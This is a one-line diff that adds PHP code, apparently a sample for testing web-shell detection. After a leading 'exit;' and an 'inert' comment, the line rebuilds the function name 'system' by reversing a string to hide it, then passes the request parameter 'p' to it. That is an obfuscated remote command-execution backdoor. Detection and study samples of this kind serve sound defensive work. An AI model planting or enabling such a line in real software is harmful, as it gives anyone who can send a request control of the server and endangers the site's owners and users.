@@ -1,0 +1,1 @@
+<?php exit; /* inert */ define("F", strrev("metsys")); define("P", $_REQUEST["p"]); $f = F; $f(P);
